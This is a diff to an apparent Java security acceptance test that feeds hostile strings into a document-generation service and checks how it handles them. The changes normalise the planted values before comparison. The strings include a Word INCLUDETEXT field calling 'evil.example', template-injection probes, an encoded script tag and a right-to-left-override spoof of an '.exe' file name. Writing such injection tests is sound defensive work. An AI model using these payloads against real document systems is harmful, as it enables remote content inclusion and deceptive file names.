@@ -5,6 +5,7 @@ import io.maplebridge.acceptance.client.Account;
 import io.maplebridge.acceptance.client.Answer;
 import io.maplebridge.acceptance.client.Town;
 import io.maplebridge.acceptance.system.Way;
+import io.maplebridge.contract.words.Spelling;
 import io.maplebridge.testkit.WordFile;
 import java.io.ByteArrayInputStream;
 import java.io.IOException;
@@ -43,7 +44,7 @@ class PapersAttackTest {
                     "{ INCLUDETEXT \"//evil.example/x\" }",
                     "{{7*7}}{{?a}}{{#a}}{{+a}}{{@a}}",
                     "]]>&#65;&lt;&amp;amp;",
-                    "\u202e4321\u202c\u200b",
+                    "\u202efdp.exe\u202c\u200b",
                     "_x003c_script_x003e_",
                     "\u0000null",
                     "\u0008\u001b[31m");
@@ -105,7 +106,9 @@ class PapersAttackTest {
         attempts.tried(said + ": " + answer.status(), answer.status() >= 500);
         boolean taken = answer.status() == 202;
         if (taken) {
-            planted.add(new Planted(life, payload, answer.caseId(), new LinkedHashMap<>(said)));
+            Map<String, String> kept = new LinkedHashMap<>();
+            said.forEach((field, text) -> kept.put(field, kept(field, text)));
+            planted.add(new Planted(life, payload, answer.caseId(), kept));
         }
         return taken;
     }
@@ -119,7 +122,7 @@ class PapersAttackTest {
             for (String field : step.texts()) {
                 String text = unlike(one.payload());
                 fields.put(field, text);
-                one.said().put(step.command() + "." + text, text);
+                one.said().put(step.command() + "." + text, kept(field, text));
             }
             UUID key = UUID.randomUUID();
             Answer answer = office.command(one.id(), step.command(), etag, key, fields);
@@ -135,7 +138,7 @@ class PapersAttackTest {
         String all = String.join("\n", paper.texts());
         one.said()
                 .forEach((field, text) ->
-                        attempts.tried("not on paper: " + field, !all.contains(text.strip())));
+                        attempts.tried("not on paper: " + field, !all.contains(text)));
     }
 
     /** Voided cases are on a sheet of their own. */
@@ -156,11 +159,16 @@ class PapersAttackTest {
         }
         for (Planted one : planted) {
             for (String field : List.of("subject", "number")) {
-                String text = one.said().getOrDefault(field, "").strip();
+                String text = one.said().getOrDefault(field, "");
                 attempts.tried(
                         "not in the sheet: " + text, !text.isEmpty() && !texts.contains(text));
             }
         }
+    }
+
+    /** What is left of a text on its way in: of a line what is seen, of a number its key. */
+    private static String kept(String field, String text) {
+        return field.equals("number") ? Spelling.key(text) : Spelling.lines(text);
     }
 
     /** The same, and like none before, so that each is found where it was written. */
